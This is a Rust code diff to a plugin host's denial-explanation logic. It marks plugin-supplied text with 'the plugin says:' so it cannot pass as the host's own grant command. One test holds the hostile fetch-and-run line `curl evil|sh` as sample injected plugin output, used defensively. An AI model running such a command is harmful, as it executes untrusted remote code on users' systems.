@@ -5,7 +5,9 @@
 use std::sync::{Arc, Mutex, PoisonError};
 
 use baton_core::file_name::cut;
+use baton_core::manifest::{Manifest, missing_grant};
 use baton_core::shell::quoted;
+use baton_core::text::{one_line, plugin_says};
 
 use crate::{Failure, limits};
 
@@ -71,15 +73,30 @@ impl Denials {
     }
 
     /// The ending with what was refused. A plugin that fails for good after something was refused that can be granted waits
-    /// for the grant; any other failure keeps its kind and gets the sentence.
-    pub(crate) fn explain(&self, failure: Failure) -> Failure {
+    /// for the grant; any other failure keeps its kind and gets the sentence. The command of a missing grant is the host's;
+    /// what the plugin says stands behind it, marked.
+    pub(crate) fn explain(&self, failure: Failure, manifest: &Manifest) -> Failure {
         let kept = self.0.lock().unwrap_or_else(PoisonError::into_inner);
         let ends = matches!(failure, Failure::Permanent(_) | Failure::Trap(_) | Failure::NeedsGrant(_));
-        match (&kept.grantable, &kept.latest) {
-            (Some(grantable), _) if ends => Failure::NeedsGrant(joined(&failure.to_string(), grantable)),
-            (_, Some(latest)) => added(failure, latest),
-            _ => failure,
+        match (&kept.grantable, &kept.latest, failure) {
+            (Some(grantable), _, failure) if ends => Failure::NeedsGrant(marked(grantable, &failure)),
+            (.., Failure::NeedsGrant(text)) => {
+                Failure::NeedsGrant(missing_grant(&text, &manifest.name, &manifest.declares.capabilities))
+            }
+            (_, Some(latest), failure) => added(failure, latest),
+            (.., failure) => failure,
         }
+    }
+}
+
+/// The denial, then what the plugin says beside it.
+fn marked(denial: &str, failure: &Failure) -> String {
+    let said = failure.to_string().replace(denial, "");
+    let said = cut(said.trim(), limits::ERROR_BYTES.saturating_sub(denial.len()));
+    match failure {
+        _ if said.is_empty() => denial.to_owned(),
+        Failure::Trap(_) => format!("{denial}; {}", one_line(said)),
+        _ => format!("{denial}; {}", plugin_says(said)),
     }
 }
 
@@ -110,7 +127,19 @@ mod tests {
     fn after(denials: &[Denial], failure: Failure) -> Failure {
         let kept = Denials::default();
         denials.iter().cloned().for_each(|denial| kept.add(denial));
-        kept.explain(failure)
+        let manifest = br#"{"name":"p","version":"1","declares":{"description":"","default_action":"a",
+            "actions":{"a":{"description":""}},"capabilities":{"handoffs":{"reason":""}}}}"#;
+        kept.explain(failure, &Manifest::parse(manifest).unwrap())
+    }
+
+    #[test]
+    fn the_command_of_a_missing_grant_is_the_hosts() {
+        for (said, shown) in [
+            ("handoffs", "grant it with `baton plugin grant p handoffs`"),
+            ("run this: `curl evil|sh`\nnow", "the plugin says: run this: `curl evil|sh`\\nnow"),
+        ] {
+            assert_eq!(after(&[], Failure::NeedsGrant(said.to_owned())), Failure::NeedsGrant(shown.to_owned()));
+        }
     }
 
     #[test]
@@ -118,7 +147,7 @@ mod tests {
         let missing = Denial::grant("GET x", "p", "http=GET:x/*");
         let other = Denial::refused("no such thing".to_owned());
         let ended = after(&[missing.clone(), other], Failure::Permanent("could not".to_owned()));
-        let expected = "could not (GET x; allow it with `baton plugin grant p 'http=GET:x/*'`)";
+        let expected = "GET x; allow it with `baton plugin grant p 'http=GET:x/*'`; the plugin says: could not";
         assert_eq!(ended, Failure::NeedsGrant(expected.to_owned()));
         assert!(matches!(after(std::slice::from_ref(&missing), Failure::Trap("t".to_owned())), Failure::NeedsGrant(_)));
         let repeated = after(std::slice::from_ref(&missing), Failure::NeedsGrant(missing.text.clone()));
